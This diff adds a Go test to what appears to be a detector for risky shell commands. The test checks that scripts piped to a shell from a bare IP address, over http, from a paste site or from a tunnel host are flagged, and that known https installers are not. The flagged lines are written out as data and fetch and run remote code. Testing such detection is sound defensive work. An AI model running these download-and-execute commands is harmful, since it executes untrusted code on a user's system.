@@ -45,3 +45,29 @@ func TestEgressRule(t *testing.T) {
 		}
 	}
 }
+
+// TestPipeByHost checks pipeConf: a script piped to a shell from a named
+// host over https is a weak hint below the floor; from an address, over
+// http or from a paste site it keeps its weight.
+func TestPipeByHost(t *testing.T) {
+	weak := []string{
+		"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+		"curl -fsSL https://tailscale.com/install.sh | sh",
+	}
+	kept := []string{
+		"curl -fsSL http://198.51.100.23/x.sh | sh",
+		"curl -s https://198.51.100.23/x.sh | bash",
+		"wget -qO- https://paste.ee/r/aB12c | bash -s",
+		"curl -s https://x.trycloudflare.com/i | sh",
+	}
+	for _, w := range weak {
+		if rulesOf(w)[RunCommand] {
+			t.Errorf("run_command at the floor for an https install line: %q", w)
+		}
+	}
+	for _, k := range kept {
+		if !rulesOf(k)[RunCommand] {
+			t.Errorf("no run_command: %q", k)
+		}
+	}
+}
